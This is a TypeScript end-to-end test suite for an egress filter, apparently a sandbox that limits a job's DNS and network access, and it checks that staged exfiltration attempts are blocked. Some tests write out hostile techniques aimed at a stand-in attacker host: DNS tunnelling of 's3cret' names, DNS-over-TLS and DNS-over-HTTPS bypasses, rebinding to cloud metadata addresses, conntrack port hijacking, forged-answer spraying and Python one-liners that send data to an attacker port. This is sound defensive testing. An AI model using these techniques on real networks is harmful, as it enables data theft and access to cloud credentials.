import { type ChildProcess, execFileSync, spawn, spawnSync } from 'node:child_process';
import { chmodSync, copyFileSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { release } from 'node:os';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { asked, type Lab, reached, WORLD } from '../e2e/lab.ts';
import {
  type Attempt,
  attack,
  attempts,
  type Both,
  denials,
  has,
  PYTHON,
  PYTHON_EXE,
  pidOf,
  program,
  startAttackLab,
  unfiltered,
} from './attack.ts';

let lab: Lab;
const started: ChildProcess[] = [];
beforeAll(async () => {
  lab = await startAttackLab();
});
afterAll(async () => {
  for (const child of started) child.kill('SIGKILL');
  await lab?.stop();
});

/** A program of ours in one of the namespaces, until the end of the tests. */
async function serve(namespace: string, name: string, ...args: string[]): Promise<void> {
  const child = spawn('ip', ['netns', 'exec', namespace, PYTHON, program(lab, name), ...args], { stdio: ['ignore', 'pipe', 'inherit'] });
  started.push(child);
  await new Promise<void>((ready, failed) => {
    child.stdout.once('data', () => ready());
    child.once('exit', (code) => failed(new Error(`${name} ended with ${code}`)));
  });
}

/** As `curl` and whoever else was asked to look something up: no name of the attacker anywhere in the world. */
const evil = (names: readonly string[]): string[] => names.filter((name) => name.includes('evil'));

const curl = (...args: string[]): string[] => ['curl', '-sS', '--max-time', '30', ...args];
const POLICY = 'ok.test\nhttp://ok.test/*';

describe('queries made by hand', () => {
  let both: Both;
  let caught: Map<string, Attempt>;
  beforeAll(async () => {
    both = await attack(lab, [PYTHON, program(lab, 'queries.py'), WORLD.dns, WORLD.evil], { policy: POLICY, timeoutMs: 110_000 });
    caught = attempts(both.caught.stdout);
  }, 240_000);

  test('without the filter they reach the servers, with it no server sees a byte of them', () => {
    expect(evil(asked(both.free)).length).toBeGreaterThanOrEqual(18);
    expect(both.free.packets.filter(({ dst }) => dst === WORLD.evil)).not.toEqual([]);
    expect(asked(both.caught)).toEqual(['ok.test']);
    expect(reached(both.caught, WORLD.evil)).toEqual([]);
    // What the proxy itself asks, built anew: one question of 36 bytes with an empty OPT record, however the client's looked.
    for (const { dst, dport, data } of both.caught.packets) expect([dst, dport, data]).toEqual([WORLD.dns, 53, 36]);
  });

  const denied: [string, string[]][] = [
    ['D1', ['tcp to the attacker', 'udp to the attacker']],
    ['D3', ['labels, to the resolver', 'tcp, to the resolver', 'tcp, an allowed question first', 'tcp, byte by byte']],
    ['D4', ['127.0.0.53', '127.0.0.54', '127.1.2.3 over tcp', '0.0.0.0', 'own address', 'mapped address']],
    ['D5', ['type ANY', 'type TXT', 'type NULL', 'type AXFR', 'class CH']],
    ['D6', ['junk first', 'allowed first, on the same socket']],
  ];
  for (const [row, ways] of denied) {
    test.each(ways)(`${row}: %s`, (way) => {
      const index = [...WAYS].indexOf(way);
      const line = denials(both.caught).find(({ name }) => name?.endsWith(`way${index}.evil.test`));
      expect(line).toMatchObject({ type: 'dns', exe: PYTHON_EXE, pid: pidOf(both.caught, 'queries.py') });
    });
  }

  test.each([
    'two questions',
    'no question and the name behind it',
    'trailing bytes',
    'record in the query',
    'name in the additional section',
    'compressed name',
    'pointer to itself',
    'pointer into later bytes',
    'empty name',
    'dot inside a label',
    'NUL inside a label',
  ])('D5: %s is refused with FORMERR', (way) => expect(caught.get(way)?.got).toBe('rcode 1, 0 answers'));

  test('D5: other classes are refused, opcodes not implemented, responses not answered, options not passed on', () => {
    expect(caught.get('class ANY')?.got).toBe('rcode 5, 0 answers');
    expect(caught.get('opcode UPDATE')?.got).toBe('rcode 4, 0 answers');
    expect(caught.get('opcode NOTIFY')?.got).toBe('rcode 4, 0 answers');
    expect(caught.get('a response')?.got).toContain('timed out');
    expect(caught.get('EDNS option')?.got).toBe('rcode 0, 1 answers');
  });

  test('D5: malformed queries are in the log with their sender', () => {
    const malformed = denials(both.caught).filter(({ reason }) => reason?.startsWith('malformed query'));
    expect(malformed.length).toBeGreaterThanOrEqual(15);
    for (const line of malformed) expect(line).toMatchObject({ type: 'dns', exe: PYTHON_EXE });
  });

  test.each([
    ['port 5353', WORLD.evil, 5353],
    ['multicast DNS', '224.0.0.251', 5353],
    ['LLMNR', '224.0.0.252', 5355],
    ['port 5353 of the resolver', WORLD.dns, 5353],
    ['from port 53', WORLD.evil, 9999],
  ])('D5: %s is UDP as any other', (_way, address, port) => {
    const there = ({ dst, dport }: { dst: string; dport?: number }): boolean => dst === address && dport === port;
    expect(both.free.packets.filter(there)).not.toEqual([]);
    expect(both.caught.packets.filter(there)).toEqual([]);
    expect(denials(both.caught)).toContainEqual(
      expect.objectContaining({ type: 'udp', dst_ip: address, dst_port: port, exe: PYTHON_EXE, pid: pidOf(both.caught, 'queries.py') }),
    );
  });

  test('D6: one source port for an allowed server and for another', () => {
    const way = 'same source port, two servers';
    expect(both.free.seen).toContainEqual(expect.objectContaining({ name: `way${WAYS.size - 1}.evil.test`, address: WORLD.evil }));
    expect(caught.get(way)?.got).toMatch(/^rcode [35]$/);
  });
});

/** In the order of queries.py. */
const WAYS = new Set(
  [...readFileSync(`${import.meta.dirname}/fixtures/queries.py`, 'utf8').matchAll(/^ {4}"([^"]+)": lambda n/gm)].map(([, way = '']) => way),
);

describe('D1: real clients and servers of the attacker', () => {
  test.each([
    ['UDP', ['dig', '+time=1', '+tries=1', `@${WORLD.evil}`, 'd1udp.evil.test']],
    ['TCP', ['dig', '+tcp', '+time=1', '+tries=1', `@${WORLD.evil}`, 'd1tcp.evil.test']],
    ['an allowed name', ['dig', '+time=1', '+tries=1', `@${WORLD.evil}`, 'ok.test']],
    ['getaddrinfo(3)', ['getent', 'ahosts', 'd1libc.evil.test']],
  ])('%s', async (_what, argv) => {
    const { free, caught } = await attack(lab, argv, { policy: POLICY });
    expect(asked(free)).not.toEqual([]);
    expect(asked(caught)).toEqual([]);
    expect(reached(caught, WORLD.evil)).toEqual([]);
    expect(denials(caught)[0]).toMatchObject({ type: 'dns', exe: `/usr/bin/${argv[0]}` });
  });
});

describe('D2: encrypted DNS', () => {
  const message = 'EjQBAAABAAAAAAAABnMzY3JldARldmlsBHRlc3QAAAEAAQ';
  test.each([
    [
      'DNS over TLS at the attacker',
      'ok.test',
      ['openssl', 's_client', '-connect', `${WORLD.evil}:853`, '-servername', 'ok.test'],
      WORLD.evil,
      { policy: 'deny', dst_ip: WORLD.evil, dst_port: 853 },
    ],
    [
      'DNS over TLS at an allowed host',
      'ok.test',
      ['openssl', 's_client', '-connect', `${WORLD.ok}:853`, '-servername', 'ok.test'],
      WORLD.ok,
      { policy: 'deny', dst_ip: WORLD.ok, dst_port: 853 },
    ],
    [
      'DNS over HTTPS by an allowed name at an address of the attacker',
      'ok.test',
      curl('-k', '--resolve', `ok.test:443:${WORLD.evil}`, `https://ok.test/dns-query?dns=${message}`),
      WORLD.evil,
      // It goes to where the name really is.
      { policy: 'allow', host: 'ok.test', dst_ip: WORLD.ok },
    ],
    [
      'DNS over HTTPS at the attacker',
      'ok.test',
      curl('-k', `https://${WORLD.evil}/dns-query?dns=${message}`),
      WORLD.evil,
      { policy: 'deny', dst_ip: WORLD.evil },
    ],
    [
      'DNS over HTTPS at an allowed host, where only a path is allowed',
      'https://ok.test/simple/*',
      curl('-k', `https://ok.test/dns-query?dns=${message}`),
      '',
      { policy: 'deny', url: expect.stringContaining('/dns-query?') },
    ],
  ])('%s', async (_what, policy, argv, address, told) => {
    const { free, caught } = await attack(lab, argv, { policy });
    expect(free.packets.filter(({ dst }) => dst === (address || WORLD.ok))).not.toEqual([]);
    if (address) expect(reached(caught, address)).toEqual([]);
    expect(caught.seen.filter(({ url }) => url?.includes('dns-query') && !argv.includes('--resolve'))).toEqual([]);
    const lines = caught.log.filter(({ type }) => type !== 'dns' && type !== 'close');
    expect(lines[0]).toMatchObject({ exe: `/usr/bin/${argv[0]}`, ...told });
    expect(new Set(caught.log.map(({ pid }) => pid)).size).toBe(1);
  });
});

describe('D4: asking somebody outside of the filter', () => {
  const socket = '/run/avahi-daemon/socket';
  const ask = (path: string): string[] => [
    PYTHON,
    '-c',
    `import socket; s=socket.socket(socket.AF_UNIX); s.connect(${path.startsWith('@') ? `'\\0${path.slice(1)}'` : `'${path}'`}); s.sendall(b's3cret.evil.test'); print('answer', s.recv(99))`,
  ];

  test.skipIf(existsSync('/run/avahi-daemon'))('a resolver service on a socket below /run (skipped where avahi runs)', async () => {
    mkdirSync('/run/avahi-daemon');
    try {
      await serve(lab.job, 'service.py', socket);
      const { free, caught } = await attack(lab, ask(socket), { policy: POLICY });
      expect(free.stdout).toContain('answer');
      expect(evil(asked(free))).toEqual(['s3cret.evil.test']);
      expect(caught.stdout).not.toContain('answer');
      expect(evil(asked(caught))).toEqual([]);
    } finally {
      rmSync('/run/avahi-daemon', { recursive: true, force: true });
    }
  });

  const landlock = spawnSync(PYTHON, ['-c', 'import ctypes; exit(ctypes.CDLL(None).syscall(444, 0, 0, 1) < 6)']).status === 0;
  test.skipIf(!landlock)(`an abstract socket${landlock ? '' : ' (skipped: this kernel has no Landlock scopes, ABI 6)'}`, async () => {
    const name = `@egf-attack-${process.pid}`;
    await serve(lab.job, 'service.py', name);
    const { free, caught } = await attack(lab, ask(name), { policy: POLICY });
    expect(evil(asked(free))).toEqual(['s3cret.evil.test']);
    expect(caught.stderr).toContain('PermissionError');
    expect(evil(asked(caught))).toEqual([]);
  });

  const resolved = has('resolvectl') && existsSync('/run/systemd/resolve/io.systemd.Resolve');
  test.skipIf(!resolved)(`resolvectl${resolved ? '' : ' (skipped: systemd-resolved does not run on this machine)'}`, async () => {
    const caught = await lab.run(['resolvectl', 'query', 's3cret.evil.test'], { policy: POLICY });
    expect(caught.status).not.toBe(0);
    expect(evil(asked(caught))).toEqual([]);
  });
});

const [major = 0, minor = 0] = release().split('.').map(Number);
const tellsMarks = major > 5 || (major === 5 && minor >= 19);
test.skipIf(!tellsMarks)(
  `D5: a question whose source port conntrack had to change is nobody’s, not that of who had the other port before${tellsMarks ? '' : ' (skipped: before Linux 5.19 the mark of a datagram is not told)'}`,
  async () => {
    const inJob = (...argv: string[]): void => void execFileSync('ip', ['netns', 'exec', lab.job, ...argv], { stdio: 'pipe' });
    const other = `${lab.directory}/other-program`;
    copyFileSync(PYTHON_EXE, other);
    chmodSync(other, 0o755);
    const question = `
import os, socket, struct, sys, time
def question(name): return struct.pack('!6H', 7, 0x100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + struct.pack('!BHH', 0, 1, 1)
`;
    // Every tenth port was another program's; then one socket asks many servers: the way from its port to ours is that of its first flow.
    const before = `${question}
for port in range(2000, 62000, 10):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try: s.bind(('127.0.0.1', port)); s.sendto(question('other.evil.test'), ('127.0.0.53', 53))
    except OSError: pass
    s.close()`;
    const after = `${question}
time.sleep(3)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('127.0.0.1', 1999))
for n in range(1, 100): s.sendto(question(f'n{n}.mine.evil.test'), (f'127.0.1.{n}', 53)); time.sleep(0.002)
time.sleep(1)`;
    // Conntrack changes ports to those that it has forgotten.
    const timeout = 'net.netfilter.nf_conntrack_udp_timeout';
    const files = { before: `${lab.directory}/ports-before.py`, after: `${lab.directory}/ports-then.py` };
    writeFileSync(files.before, before);
    writeFileSync(files.after, after);
    const saved = execFileSync('ip', ['netns', 'exec', lab.job, 'sysctl', '-n', timeout], { encoding: 'utf8' }).trim();
    inJob('sysctl', '-qw', `${timeout}=1`);
    try {
      const caught = await lab.run(['sh', '-c', `${other} ${files.before}; ${PYTHON} ${files.after}`], { policy: POLICY });
      const mine = caught.log.filter(({ name }) => name?.endsWith('.mine.evil.test'));
      expect(mine.length).toBeGreaterThan(50);
      expect(mine.filter(({ exe }) => exe === other)).toEqual([]);
      expect(mine).toContainEqual(expect.objectContaining({ exe: PYTHON_EXE }));
      expect(evil(asked(caught))).toEqual([]);
    } finally {
      inJob('sysctl', '-qw', `${timeout}=${saved}`);
    }
  },
);

describe('D7: answers that lie', () => {
  const hex = (ip: string): string =>
    ip
      .split('.')
      .map((part) => Number(part).toString(16).padStart(2, '0'))
      .join('');
  const log = (): string => `${lab.directory}/changing.log`;
  beforeAll(async () => {
    spawnSync('ip', ['-n', lab.world, 'addr', 'add', '203.0.113.54/32', 'dev', 'lo']);
    writeFileSync(log(), '');
    await serve(lab.world, 'changing-dns.py', '203.0.113.54', log());
  });

  /** With the changing server as the machine's resolver. */
  async function withChangingDns(labels: string, policy: string): Promise<Both> {
    const path = `/etc/netns/${lab.job}/resolv.conf`;
    const saved = readFileSync(path);
    writeFileSync(path, 'nameserver 203.0.113.54\noptions timeout:10 attempts:1\n');
    const script = `import socket, sys
# The server counts by name: each process has one of its own.
name = '${labels}.' + str(__import__('os').getpid()) + '.rebind.test'
for i in range(4):
    try:
        a = socket.gethostbyname(name); print('address', a)
        s = socket.create_connection((a, 80), 2); s.sendall(f'GET /s3cret HTTP/1.1\\r\\nHost: {name}\\r\\nConnection: close\\r\\n\\r\\n'.encode()); print(s.recv(300)[:12])
    except OSError as e: print(e)`;
    try {
      return await attack(lab, [PYTHON, '-c', script], { policy });
    } finally {
      writeFileSync(path, saved);
    }
  }

  test.each([
    ['the metadata service', '169.254.169.254'],
    ['a link-local address', '169.254.1.1'],
    ["Azure's wireserver", '168.63.129.16'],
  ])('rebinding with TTL 0 to %s', async (_what, target) => {
    const labels = `${hex(WORLD.ok)}-${hex(target)}`;
    const { free, caught } = await withChangingDns(labels, 'http://*.rebind.test/*\n*.rebind.test:*');
    expect(free.packets.filter(({ dst }) => dst === target)).not.toEqual([]);
    expect(caught.stdout).toContain(`address ${WORLD.ok}`);
    expect(caught.stdout).not.toContain(`address ${target}`);
    expect(reached(caught, target)).toEqual([]);
    expect(caught.log).toContainEqual(expect.objectContaining({ type: 'dns', name: expect.stringContaining(labels), exe: PYTHON_EXE }));
  });

  test.each([
    ['metadata.test', '169.254.169.254'],
    ['local.test', '127.0.0.1'],
  ])('%s, allowed, answers %s: the answer is dropped, whoever connects there is refused', async (name, address) => {
    const policy = `${name}:*\nhttp://${name}/*`;
    const free = unfiltered(lab, ['getent', 'ahostsv4', name]);
    expect(free.stdout).toContain(address);
    const caught = await lab.run(
      ['bash', '-c', `getent ahostsv4 ${name}; curl -sS --max-time 3 --resolve ${name}:80:169.254.169.254 http://${name}/`],
      {
        policy,
      },
    );
    // What curl is told is an answer: that it fails means that the run did.
    expect(caught.status, caught.stderr).toBe(0);
    expect(caught.stdout).not.toMatch(/^(169|127)\./m);
    expect(reached(caught, '169.254.169.254')).toEqual([]);
    expect(
      caught.log.some(({ type, exe, error, policy }) => type !== 'dns' && exe === '/usr/bin/curl' && (error || policy === 'deny')),
    ).toBe(true);
  });

  test('a name of our own machine in the file of hosts, or chosen by the client, binds nothing', async () => {
    // Without the filter somebody answers, and then nobody ends it.
    const telnet = ['curl', '-sS', '--max-time', '5', '--resolve', `ok.test:9999:${WORLD.evil}`, 'telnet://ok.test:9999'];
    const { free, caught } = await attack(lab, telnet, { policy: 'ok.test:9999' });
    expect(free.packets.filter(({ dst }) => dst === WORLD.evil)).not.toEqual([]);
    expect(reached(caught, WORLD.evil)).toEqual([]);
    expect(denials(caught)).toContainEqual(expect.objectContaining({ dst_ip: WORLD.evil, dst_port: 9999, exe: '/usr/bin/curl' }));
  });

  describe("a server at this machine's address, which a rule covers", () => {
    beforeAll(() => serve(lab.job, 'own-dns.py', 'serve', '10.77.0.2', WORLD.evil, '-'));

    test.each(['udp', 'tcp'])('over %s', async (transport) => {
      const { free, caught } = await attack(lab, [PYTHON, program(lab, 'own-dns.py'), 'ask', '10.77.0.2', WORLD.evil, transport], {
        policy: '10.0.0.0/8:*\n10.0.0.0/8:*/udp\nok.test:9999',
      });
      expect(free.stdout).toContain("echo b's3cret'");
      // It is asked, as it may be, and the client hears its answer: a name is bound by neither.
      expect(caught.stdout).toContain('told True\nrefused');
      expect(reached(caught, WORLD.evil)).toEqual([]);
      expect(denials(caught)).toContainEqual(expect.objectContaining({ dst_ip: WORLD.evil, dst_port: 9999, exe: PYTHON_EXE }));
    });
  });

  describe.each([
    ['on a port that it shares', '127.0.0.11', 53],
    ["by flows that conntrack takes for its answers, where it is asked at another port (Docker's)", '127.0.0.12', 45353],
  ])("the place of the machine's name server, at an address of the machine: %s", (_how, address, port) => {
    const path = (): string => `/etc/netns/${lab.job}/resolv.conf`;
    const inJob = (...argv: string[]): void => void execFileSync('ip', ['netns', 'exec', lab.job, ...argv], { stdio: 'pipe' });
    const nat = (how: '-A' | '-D'): void => {
      if (port === 53) return;
      const [there, back] = [`${address}:${port}`, `${address}:53`];
      inJob('iptables', '-t', 'nat', how, 'OUTPUT', '-d', address, '-p', 'udp', '--dport', '53', '-j', 'DNAT', '--to-destination', there);
      inJob(
        'iptables',
        '-t',
        'nat',
        how,
        'POSTROUTING',
        '-s',
        address,
        '-p',
        'udp',
        '--sport',
        `${port}`,
        '-j',
        'SNAT',
        '--to-source',
        back,
      );
    };
    let saved: Buffer;
    beforeAll(async () => {
      saved = readFileSync(path());
      // As in containers.
      inJob('sysctl', '-qw', 'net.ipv4.ip_unprivileged_port_start=0');
      await serve(lab.job, 'local-dns.py', address, `${port}`, WORLD.dns);
      nat('-A');
      // As on a machine with a firewall: conntrack knows flows from before a run.
      inJob('iptables', '-A', 'INPUT', '-m', 'conntrack', '--ctstate', 'ESTABLISHED', '-j', 'ACCEPT');
      writeFileSync(path(), `nameserver ${address}\n`);
    });
    afterAll(() => {
      writeFileSync(path(), saved);
      nat('-D');
      inJob('iptables', '-D', 'INPUT', '-m', 'conntrack', '--ctstate', 'ESTABLISHED', '-j', 'ACCEPT');
      inJob('sysctl', '-qw', 'net.ipv4.ip_unprivileged_port_start=1024');
    });

    test('answers nobody past the filter, from the port of somebody outside who asked a moment ago', async () => {
      // Without the filter the program is that somebody.
      const ask = `import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.bind(('127.0.0.1', 40404)); s.connect(('${address}', 53))
try: s.send(struct.pack('!6H', 7, 0x100, 1, 0, 0, 0) + b'\\x06s3cret\\x04evil\\x04test\\0\\0\\1\\0\\1'); print('answer', len(s.recv(512)) > 12)
except OSError as error: print('refused', error)`;
      const { free, caught } = await attack(lab, [PYTHON, '-c', ask], { policy: POLICY });
      expect(free.stdout).toContain('answer True');
      expect(evil(asked(free))).toEqual(['s3cret.evil.test']);
      expect(evil(asked(caught))).toEqual([]);
      expect(caught.stdout).toContain('refused');
      expect(denials(caught)).toContainEqual(
        expect.objectContaining({ type: 'ip', protocol: 'udp', dst_ip: address, exe: PYTHON_EXE, uid: 65534 }),
      );
    });

    test("is nobody else's to take", async () => {
      const asked = await lab.run(['getent', 'hosts', 'ok.test'], { policy: 'ok.test:9999' });
      expect(asked.stdout).toContain(WORLD.ok);
      const { free, caught } = await attack(lab, [PYTHON, program(lab, 'resolver-port.py'), address, WORLD.evil], {
        policy: 'ok.test:9999',
      });
      expect(free.stdout).toContain("echo b's3cret'");
      expect(caught.stderr).toContain('PermissionError');
      expect(reached(caught, WORLD.evil)).toEqual([]);
      expect(denials(caught)).toContainEqual(expect.objectContaining({ type: 'socket', src_port: 53, exe: PYTHON_EXE, uid: 65534 }));
    });
  });

  describe.each([
    ['behind a bridge', 'bridge', '172.30.0.2'],
    ['at the other end of a veth', 'veth', '172.30.1.2'],
    ['behind a bridge that claims the address of a server elsewhere', 'bridge', '203.0.113.99'],
  ] as const)("a server in a container of the job's %s, which a rule covers", (_where, kind, address) => {
    const container = `egfc${process.pid}`;
    beforeAll(async () => {
      const ip = (...args: string[]): void => void execFileSync('ip', args, { stdio: 'pipe' });
      ip('netns', 'add', container);
      ip('link', 'add', 'guest', 'netns', lab.job, 'type', 'veth', 'peer', 'name', 'eth0', 'netns', container);
      if (kind === 'bridge') {
        ip('-n', lab.job, 'link', 'add', 'br-guests', 'type', 'bridge');
        ip('-n', lab.job, 'link', 'set', 'guest', 'master', 'br-guests');
      }
      const inside = kind === 'bridge' ? 'br-guests' : 'guest';
      ip('-n', lab.job, 'link', 'set', 'guest', 'up');
      ip('-n', lab.job, 'link', 'set', inside, 'up');
      ip('-n', lab.job, 'addr', 'add', '172.30.255.1/32', 'dev', inside);
      ip('-n', lab.job, 'route', 'add', `${address}/32`, 'dev', inside);
      ip('-n', container, 'link', 'set', 'eth0', 'up');
      ip('-n', container, 'addr', 'add', `${address}/32`, 'dev', 'eth0');
      ip('-n', container, 'route', 'add', 'default', 'dev', 'eth0');
      await serve(container, 'own-dns.py', 'serve', address, WORLD.evil, '-');
    });
    afterAll(() => {
      spawnSync('ip', ['-n', lab.job, 'link', 'del', 'guest']);
      spawnSync('ip', ['-n', lab.job, 'link', 'del', 'br-guests']);
      spawnSync('ip', ['netns', 'del', container]);
    });

    test.each(['udp', 'tcp'])('over %s', async (transport) => {
      const { free, caught } = await attack(lab, [PYTHON, program(lab, 'own-dns.py'), 'ask', address, WORLD.evil, transport], {
        policy: `172.16.0.0/12:*\n172.16.0.0/12:*/udp\n${address}:53\n${address}:53/udp\nok.test:9999`,
      });
      expect(free.stdout).toContain("echo b's3cret'");
      expect(caught.stdout).toContain('told True\nrefused');
      expect(reached(caught, WORLD.evil)).toEqual([]);
      expect(denials(caught)).toContainEqual(expect.objectContaining({ dst_ip: WORLD.evil, dst_port: 9999, exe: PYTHON_EXE }));
    });
  });

  test('an alias of an allowed name is a name of its own, and the allowed name opens nothing for it', async () => {
    const { free, caught } = await attack(lab, curl('-k', 'https://alias.test/'), { policy: POLICY });
    expect(asked(free)).toContain('alias.test');
    expect(asked(caught)).toEqual([]);
    expect(reached(caught, WORLD.ok)).toEqual([]);
    expect(denials(caught)[0]).toMatchObject({ type: 'dns', name: 'alias.test', exe: '/usr/bin/curl' });
  });

  test('a learned address does not outgrow the name: another name at the same address', async () => {
    const script = `getent hosts ok.test; curl -skS --max-time 3 --resolve evil.test:443:${WORLD.ok} https://evil.test/`;
    const { free, caught } = await attack(lab, ['bash', '-c', script], { policy: POLICY });
    expect(free.stdout).toContain('hello from evil.test');
    expect(reached(caught, WORLD.ok)).toEqual([]);
    expect(denials(caught)).toContainEqual(expect.objectContaining({ host: 'evil.test', exe: '/usr/bin/curl' }));
  });

  test('D8: answers that nobody asked for teach nothing', async () => {
    const forged = Buffer.from(
      '12348180000100010000000002' +
        Buffer.from('ok').toString('hex') +
        '04' +
        Buffer.from('test').toString('hex') +
        '0000010001c00c00010001000002580004' +
        hex(WORLD.evil),
      'hex',
    );
    const spray = `import socket, time
while True:
    for source in ('${WORLD.dns}', '${WORLD.evil}'):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); s.bind((source, 5300))
        for port in range(30000, 61000, 3): s.sendto(bytes.fromhex('${forged.toString('hex')}'), ('10.77.0.2', port))
    time.sleep(2)`;
    const inside = `import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('0.0.0.0', 30000)); s.settimeout(60); s.recv(512)
time.sleep(0.3); f = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); f.sendto(bytes.fromhex('${forged.toString('hex')}'), ('127.0.0.53', 53))
c = socket.create_connection(('${WORLD.evil}', 9999), 30); c.sendall(b's3cret'); print(c.recv(9))`;
    const dial = `import socket; c = socket.create_connection(('${WORLD.evil}', 9999), 30); c.sendall(b's3cret'); print(c.recv(9))`;
    expect(unfiltered(lab, [PYTHON, '-c', dial]).stdout).toBe("b's3cret'\n");
    await lab.quiet();
    const running = lab.run([PYTHON, '-c', inside], { policy: 'ok.test:9999\nok.test' });
    const sprayer = spawn('ip', ['netns', 'exec', lab.world, PYTHON, '-c', spray], { stdio: 'ignore' });
    const caught = await running.finally(() => sprayer.kill('SIGKILL'));
    expect(caught.stderr).toContain('ConnectionResetError');
    // The kernel of the job answers a datagram for a closed port by itself (ICMP), with nothing of the job's in it.
    expect(caught.packets.filter(({ dst, proto }) => dst === WORLD.evil && proto !== 1)).toEqual([]);
    expect(denials(caught)).toContainEqual(expect.objectContaining({ dst_ip: WORLD.evil, dst_port: 9999, exe: PYTHON_EXE }));
    expect(caught.log.every(({ dst_names }) => !dst_names?.includes('ok.test'))).toBe(true);
  });
});
